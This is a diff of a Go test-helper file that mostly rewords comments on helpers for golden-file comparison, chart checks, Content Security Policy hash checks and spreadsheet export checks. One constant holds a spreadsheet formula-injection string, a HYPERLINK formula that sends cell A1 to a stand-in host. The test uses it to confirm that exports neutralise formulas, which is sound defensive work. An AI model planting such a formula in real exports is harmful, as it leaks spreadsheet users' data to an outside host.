@@ -16,7 +16,7 @@ import (
 	"github.com/headroom/headroom/internal/testing/golden"
 )
 
-// Written is a document in a format.
+// Written returns a document in a format.
 func Written(t testing.TB, d document.Document, format string, o render.Options) string {
 	t.Helper()
 	var b strings.Builder
@@ -28,7 +28,7 @@ func Written(t testing.TB, d document.Document, format string, o render.Options)
 	return b.String()
 }
 
-// InEveryFormat holds what each format makes of a document against files of the package whose test it is.
+// InEveryFormat compares a document in each format with golden files of the package under test.
 func InEveryFormat(t *testing.T, name string, build func(render.Options) document.Document) {
 	t.Helper()
 	for _, f := range render.Formats() {
@@ -49,8 +49,8 @@ func InEveryFormat(t *testing.T, name string, build func(render.Options) documen
 	}
 }
 
-// Golden holds a text against a file. Of a page it leaves out the style and the script, which are files of their own,
-// and their hashes.
+// Golden compares a text with a file. For a page it omits the style and the script, which are separate files, and their
+// hashes.
 func Golden(t *testing.T, name, got string) {
 	t.Helper()
 	if strings.HasSuffix(name, ".html") {
@@ -60,7 +60,7 @@ func Golden(t *testing.T, name, got string) {
 	golden.Equal(t, filepath.Join("testdata", "golden", name), got)
 }
 
-// Pictures are those of a document.
+// Pictures returns the pictures of a document.
 func Pictures(d document.Document) []document.Plot {
 	var plots []document.Plot
 	for b := range document.All(d.Blocks) {
@@ -71,8 +71,8 @@ func Pictures(d document.Document) []document.Plot {
 	return plots
 }
 
-// CheckPictures checks the pictures of documents, by their names: whatever is drawn stays in its picture, no text is
-// over another, and there is a mark for each point.
+// CheckPictures checks the pictures of documents, by their names: everything drawn stays in its picture, texts do not
+// overlap, and there is a mark for each point.
 func CheckPictures(t *testing.T, documents map[string]document.Document) {
 	t.Helper()
 	checked := 0
@@ -87,7 +87,7 @@ func CheckPictures(t *testing.T, documents map[string]document.Document) {
 	}
 }
 
-// CheckPolicy fails where a page does not forbid all but its own script and its own style, by their hashes, or has
+// CheckPolicy fails if a page's policy allows more than its own script and style, by their hashes, or if the page has
 // what the policy would forbid.
 func CheckPolicy(t *testing.T, name, page string) {
 	t.Helper()
@@ -131,17 +131,17 @@ func CheckPolicy(t *testing.T, name, page string) {
 	}
 }
 
-// hashOf is how a policy names the text of an element: https://www.w3.org/TR/CSP3/#grammardef-hash-source
+// hashOf returns the name of an element's text in a policy: https://www.w3.org/TR/CSP3/#grammardef-hash-source
 func hashOf(text string) string {
 	sum := sha256.Sum256([]byte(text))
 	return "'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"
 }
 
-// Formula is a name that is one, also for a spreadsheet that ends cells at semicolons.
+// Formula is a name with the form of a formula, also for a spreadsheet that ends cells at semicolons.
 const Formula = `=HYPERLINK("http://e.test/?"&A1);=1+1`
 
-// CheckFormulas fails where the name Formula is a formula in a file that a spreadsheet reads, unless somebody wants it
-// as it is, or where a number is none any more.
+// CheckFormulas fails if the name Formula is a formula in a file for spreadsheets, unless raw cells are requested, or
+// if a number is no longer one.
 func CheckFormulas(t *testing.T, name string, write func(render.Options) string) {
 	t.Helper()
 	plainNumber, endOfCell := regexp.MustCompile(`^[+-]?[0-9.,eE+-]+$`), regexp.MustCompile(`[,;\t\r\n]`)
